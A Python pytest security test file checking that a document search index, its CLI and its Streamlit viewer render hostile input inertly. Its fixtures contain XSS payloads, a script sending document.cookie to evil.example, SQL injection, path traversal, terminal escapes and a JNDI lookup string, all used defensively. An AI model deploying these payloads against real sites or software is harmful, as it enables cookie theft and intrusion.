"""A hostile corpus and hostile input: odd and malicious file names, documents carrying script,
event-handler and javascript: markup or terminal escapes, links out of the corpus folder,
injection-looking queries. Everything indexes, and comes out as inert text in hit JSON, at the
CLI and in the app's HTML; nothing outside the corpus folder is read."""
from __future__ import annotations

import ast
import json
import os
import re
import subprocess
import sys
import tomllib

import pytest

from core.config import REPO_ROOT
from core.errors import QueryError
from index import Config, Filters, build_index, open_index

XSS = "<script>alert('xss')</script>"
IMG = "<img src=x onerror=alert(1)>"
MD_LINK = "[点我](javascript:alert(1))"
TERMINAL = "\x1b]0;pwned\x07\x1b[2J"
HOSTILE_TEXT = (
    "某市网络安全工作要点\n"
    "一、网络安全\n"
    f"（一）防范脚本注入。{XSS} 和 {IMG} 都应显示为文字。\n"
    f"（二）链接安全。{MD_LINK} 与 <a href=\"javascript:alert(2)\">链接</a> 不可执行。\n"
    f"（三）终端安全。{TERMINAL}不应控制终端。$x^2$ :red[红色] **粗体** &lt;b&gt;\n"
)
HOSTILE_PAGE = (
    "<html><head><title>t</title><script>document.location='http://evil.example/'+document.cookie</script></head>"
    "<body><article><p>一、数据安全</p><p>（一）保护健康档案数据。居民电子健康档案建档率达到90%以上，"
    "<a href=\"javascript:steal()\">点击领取</a>链接不得执行。</p>"
    "<iframe src=\"http://evil.example\"></iframe><img src=x onerror=\"fetch('http://evil.example')\"></article>"
    "</body></html>"
)
NAMES = {
    "规划 (2024) 第1号 final.txt": "一、目标\n（一）推进家庭医生签约服务。签约率达到40%。\n",
    f"{IMG}.txt": HOSTILE_TEXT,
    "'; DROP TABLE documents; --.txt": "一、药品\n（一）推进药品集中采购。\n",
    "emoji😀 文件.txt": "一、托育\n（一）每千人口托位数达到4.5个。\n",
    "esc\x1b[31mred\x07.txt": "一、免疫\n（一）疫苗接种率保持在95%以上。\n",
    "nested/子目录/深层 文件.txt": "一、中医药\n（一）建设中医药传承创新中心。\n",
    "page.html": HOSTILE_PAGE,
    "..hidden.txt": "一、隐藏\n（一）不应被索引的内容。\n",
    ".git/notes.txt": "一、隐藏\n（一）版本库里的文件。\n",
}
OUTSIDE_SECRET = "OUTSIDE-SECRET-ROOT-PASSWORD"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ACTIVE_MARKUP = re.compile(r"<\s*(script|img|iframe|a|svg|object|embed)\b|<[^>]*\bon\w+\s*=|javascript:", re.I)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(config, report, index) for the hostile corpus, built once with the hashing embedder."""
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "corpus"
    for name, text in NAMES.items():
        (corpus / name).parent.mkdir(parents=True, exist_ok=True)
        (corpus / name).write_text(text, encoding="utf-8")
    bad_name = os.fsencode(corpus) + b"/bad-\xff\xfe-name.txt"  # not UTF-8: the OS allows it
    with open(bad_name, "wb") as handle:
        handle.write("一、编码\n（一）文件名不是 UTF-8。\n".encode())
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"一、机密\n（一）{OUTSIDE_SECRET}\n", encoding="utf-8")
    (corpus / "leak.txt").symlink_to(outside / "secret.txt")
    (corpus / "outside-dir").symlink_to(outside, target_is_directory=True)
    config = Config(corpus_dir=corpus, index_dir=root / "index", cache_dir=root / "cache", model="hashing",
                    show_progress=False)
    report = build_index(config)
    return config, report, open_index(config.index_dir, model="hashing")


def _hostile_doc(index) -> str:
    return next(m.doc_id for m in index.documents if "onerror" in m.doc_id)


def _hostile_hits(index):
    hits = index.search("防范脚本注入 链接安全 终端安全", k=10, mode="lexical")
    hits = [h for h in hits if h.chunk.doc_id == _hostile_doc(index) and h.chunk.path != "前言"]
    assert len(hits) == 3
    return hits


# -- the corpus loader ------------------------------------------------------------------------
def test_hostile_file_names_index_under_printable_ids(hostile):
    _, report, index = hostile
    ids = {m.doc_id for m in index.documents}
    assert {"规划 (2024) 第1号 final", "<img src=x onerror=alert(1)>", "'; DROP TABLE documents; --", "emoji😀 文件",
            "nested__子目录__深层 文件", "page", "bad-\ufffd\ufffd-name"} <= ids
    assert r"esc\x1b[31mred\x07" in ids
    assert len(ids) == 8
    for meta in index.documents:
        assert not CONTROL.search(meta.doc_id) and not CONTROL.search(meta.source)


def test_hidden_files_and_folders_are_not_documents(hostile):
    _, _, index = hostile
    assert not any("隐藏" in index.document_text(m.doc_id) for m in index.documents)


def test_links_out_of_the_corpus_folder_are_skipped_and_reported(hostile):
    _, report, index = hostile
    assert any("leak.txt" in line and "outside" in line for line in report.skipped)
    assert not any(OUTSIDE_SECRET in index.document_text(m.doc_id) for m in index.documents)
    assert not any("secret" in m.doc_id for m in index.documents)


def test_document_text_is_looked_up_never_opened_as_a_path(hostile):
    _, _, index = hostile
    for doc_id in ("../../../../etc/passwd", "/etc/passwd", "..__..__etc__passwd", "leak", "' OR '1'='1"):
        with pytest.raises(KeyError):
            index.document_text(doc_id)
        assert index.document_chunks(doc_id) == []


def test_sql_looking_filters_and_ids_are_plain_values(hostile):
    _, _, index = hostile
    assert index.search("药品集中采购", filters=Filters(cities=("' OR '1'='1",))) == []
    assert index.search("药品集中采购", filters=Filters(doc_types=("x\") OR 1=1 --",))) == []
    hits = index.search("'; DROP TABLE documents; -- 药品", k=3)
    assert hits and len(index.documents) == 8


# -- hostile content comes out inert ----------------------------------------------------------
def test_hostile_markup_is_stored_and_returned_as_literal_text(hostile):
    _, _, index = hostile
    texts = "".join(h.chunk.text for h in _hostile_hits(index))
    assert XSS in texts and IMG in texts and MD_LINK in texts
    assert "\x1b" not in texts and "\x07" not in texts  # control characters became spaces when read
    for hit in _hostile_hits(index):
        data = json.loads(json.dumps(hit.to_json(), ensure_ascii=False))
        assert index.document_text(data["doc_id"])[data["start"]:data["end"]] == data["text"]


def test_html_page_scripts_frames_and_handlers_are_dropped(hostile):
    _, _, index = hostile
    text = index.document_text("page")
    assert "居民电子健康档案建档率达到90%以上" in text
    assert "document.cookie" not in text and "evil.example" not in text and "steal()" not in text


def _run(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "index", *args], input=stdin, capture_output=True, cwd=REPO_ROOT,
                          timeout=120)


def test_cli_output_carries_no_terminal_controls(hostile):
    config, _, _ = hostile
    common = ["--index-dir", str(config.index_dir), "--model", "hashing"]
    as_json = _run("search", "防范脚本注入 终端安全", "--json", "--mode", "lexical", *common)
    as_text = _run("search", "防范脚本注入 终端安全", "--mode", "lexical", *common)
    info = _run("info", "--index-dir", str(config.index_dir))
    for result in (as_json, as_text, info):
        assert result.returncode == 0, result.stderr
        assert not CONTROL.search(result.stdout.decode("utf-8").replace("\n", "").replace("\t", ""))
    hits = json.loads(as_json.stdout)
    assert any(XSS in h["text"] for h in hits)
    assert XSS.encode("utf-8") in as_text.stdout or "防范脚本注入".encode() in as_text.stdout


def test_app_cards_and_viewer_render_hostile_text_as_text(hostile):
    from ui.cards import card_html
    from ui.outline import document_outline
    from ui.safe_text import escape_markdown
    from ui.viewer_page import document_html

    _, _, index = hostile
    cards = [card_html(hit) for hit in _hostile_hits(index)]
    for html in cards:
        assert not ACTIVE_MARKUP.search(html), html
    assert "onerror" in "".join(cards) and "script" in "".join(cards)  # the words show, as characters
    doc_id = _hostile_doc(index)
    page = document_html(index.document_text(doc_id), document_outline(index.document_chunks(doc_id)), None)
    assert not ACTIVE_MARKUP.search(page)
    assert "](javascript" not in escape_markdown(HOSTILE_TEXT)


def test_viewer_link_encodes_a_hostile_doc_id(hostile):
    from ui.links import viewer_link

    _, _, index = hostile
    link = viewer_link(_hostile_doc(index), 1, 5)
    assert not re.search(r"[<>\"' ()]", link) and link.startswith("viewer?doc=")


def _viewer_app(index_dir: str) -> None:
    from pathlib import Path

    from index import open_index
    from ui import viewer_page

    viewer_page.render(open_index(Path(index_dir), model="hashing"))


@pytest.mark.parametrize("doc", ["../../../../etc/passwd", "/etc/passwd", "leak", "%2e%2e%2fetc%2fpasswd"])
def test_viewer_refuses_ids_that_are_not_in_the_index(hostile, doc):
    from streamlit.testing.v1 import AppTest

    config, _, _ = hostile
    app = AppTest.from_function(_viewer_app, args=(str(config.index_dir),), default_timeout=30)
    app.query_params["doc"] = doc
    app.run()
    assert not app.exception
    assert app.error and "找不到文档" in app.error[0].value
    shown = json.dumps([str(e) for e in app.main], ensure_ascii=False)
    assert "root:" not in shown and OUTSIDE_SECRET not in shown


def test_viewer_shows_a_hostile_document_without_error(hostile):
    from streamlit.testing.v1 import AppTest

    config, _, index = hostile
    app = AppTest.from_function(_viewer_app, args=(str(config.index_dir),), default_timeout=30)
    app.query_params["doc"] = _hostile_doc(index)
    app.query_params["start"], app.query_params["end"] = "0", "5"
    app.run()
    assert not app.exception and not app.error


# -- hostile queries --------------------------------------------------------------------------
HOSTILE_QUERIES = [
    "", "   \t\n", "x" * 10_000, "。，！？……——", "😀🏥💉", "'; DROP TABLE chunks; --", "\" OR 1=1 --",
    XSS, IMG, MD_LINK, "../../etc/passwd", "%s%s%n", "{{7*7}}", "${jndi:ldap://x}", "\x00\x01", "\u202e反转",
    "family doctor 家庭医生 签约率", "COVID-19疫苗 booster", "\ud800孤立代理", "ＡＢＣ１２３", "a" * 999,
]


@pytest.mark.parametrize("query", HOSTILE_QUERIES, ids=range(len(HOSTILE_QUERIES)))
def test_hostile_query_gets_hits_or_a_clear_message(hostile, query):
    _, _, index = hostile
    for mode in ("hybrid", "dense", "lexical"):
        try:
            hits = index.search(query, k=5, mode=mode)
        except QueryError as exc:
            assert str(exc) and "\n" not in str(exc)
            continue
        for hit in hits:
            assert index.document_text(hit.chunk.doc_id)[hit.chunk.start:hit.chunk.end] == hit.chunk.text


def test_cli_batch_answers_every_hostile_line(hostile):
    config, _, _ = hostile
    lines = [q for q in HOSTILE_QUERIES if "\n" not in q and "\ud800" not in q]
    stdin = b"\n".join(q.encode("utf-8") for q in lines) + b"\n\xff\xfe invalid utf-8 \n"
    result = _run("search", "--stdin", "-k", "2", "--index-dir", str(config.index_dir), "--model", "hashing",
                  stdin=stdin)
    assert result.returncode == 0, result.stderr
    answers = [json.loads(line) for line in result.stdout.decode("utf-8").splitlines()]
    assert len(answers) == len(lines) + 1
    for answer in answers:
        assert isinstance(answer, list) or set(answer) == {"error", "query"}
    assert "编码" in answers[-1]["error"]


def test_cli_query_of_undecodable_bytes_is_one_line(hostile):
    config, _, _ = hostile
    result = _run("search", os.fsdecode(b"\xff\xfe"), "--index-dir", str(config.index_dir), "--model", "hashing")
    assert result.returncode == 2 and result.stderr.decode("utf-8").count("\n") == 1
    assert b"Traceback" not in result.stderr


# -- serving ----------------------------------------------------------------------------------
def test_app_listens_on_localhost_only():
    settings = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    server = settings["server"]
    assert server["address"] == "127.0.0.1"
    assert server.get("enableXsrfProtection", True) and server.get("enableCORS", True)
    run_line = next(line for line in (REPO_ROOT / "Makefile").read_text(encoding="utf-8").splitlines()
                    if "streamlit run" in line)
    assert "--server.address 127.0.0.1" in run_line


# -- SQL ----------------------------------------------------------------------------------------
SQL_CALLS = {"execute", "executemany", "executescript"}
PLACEHOLDER_LISTS = {"marks"}  # the only names an SQL f-string may interpolate: ",".join("?" * n)


def _constant_sql(node: ast.expr) -> bool:
    """SQL text fixed in the source: a literal, a module or class constant, literals joined, or an
    f-string that interpolates only a list of ? placeholders."""
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str)
    if isinstance(node, ast.Name):
        return node.id.lstrip("_").isupper()
    if isinstance(node, ast.Attribute):  # self._KNOWN: a class constant
        return node.attr.lstrip("_").isupper()
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _constant_sql(node.left) and _constant_sql(node.right)
    if isinstance(node, ast.JoinedStr):
        return all(isinstance(part, ast.Constant)
                   or isinstance(part.value, ast.Name) and part.value.id in PLACEHOLDER_LISTS
                   for part in node.values)
    return False


def test_sql_everywhere_binds_its_values():
    """Every execute() in the project, the judging database included once it exists, passes SQL
    text fixed in the source and its values as parameters; no value is formatted into SQL."""
    sources = [REPO_ROOT / "app.py"] + [p for folder in ("core", "embed", "text", "ingest", "retrieval", "index", "commitments",
                                                       "answer", "hws", "cli", "eval", "ui", "bench")
                                        for p in (REPO_ROOT / folder).rglob("*.py")]
    calls, violations = 0, []
    for path in sources:
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in SQL_CALLS and node.args):
                calls += 1
                if not _constant_sql(node.args[0]):
                    violations.append(f"{path.relative_to(REPO_ROOT)}:{node.lineno}")
    assert calls >= 10 and not violations, violations


@pytest.mark.parametrize("sql", ['f"SELECT * FROM t WHERE id = {doc_id}"', '"SELECT * FROM t WHERE id = " + doc_id',
                                 '"SELECT * FROM t WHERE id = %s" % doc_id', '"SELECT {}".format(doc_id)'])
def test_the_sql_check_catches_formatted_values(sql):
    assert not _constant_sql(ast.parse(sql, mode="eval").body)


def test_judging_database_stores_hostile_text_as_data(tmp_path):
    """SQL-looking judges, notes and questions are stored and read back verbatim; the table survives."""
    from eval.judging import Assessment, JudgingStore

    store = JudgingStore(tmp_path / "judgements.sqlite")
    hostile = "x'); DROP TABLE judgements; --"
    store.add([Assessment(qid="q1", query=hostile, section_id="d#一、", judge=hostile, grade=2, note=hostile + " <script>")])
    store.add([Assessment(qid="q1", query="正常问题", section_id="d#二、", judge="甲", grade=1)])
    rows = store.assessments(qid="q1")
    assert [r.grade for r in rows] == [2, 1]
    assert rows[0].judge == hostile and rows[0].query == hostile and rows[0].note == hostile + " <script>"
    assert store.assessments(judge=hostile)[0].section_id == "d#一、"
    assert store.assessments(qid="' OR '1'='1") == []
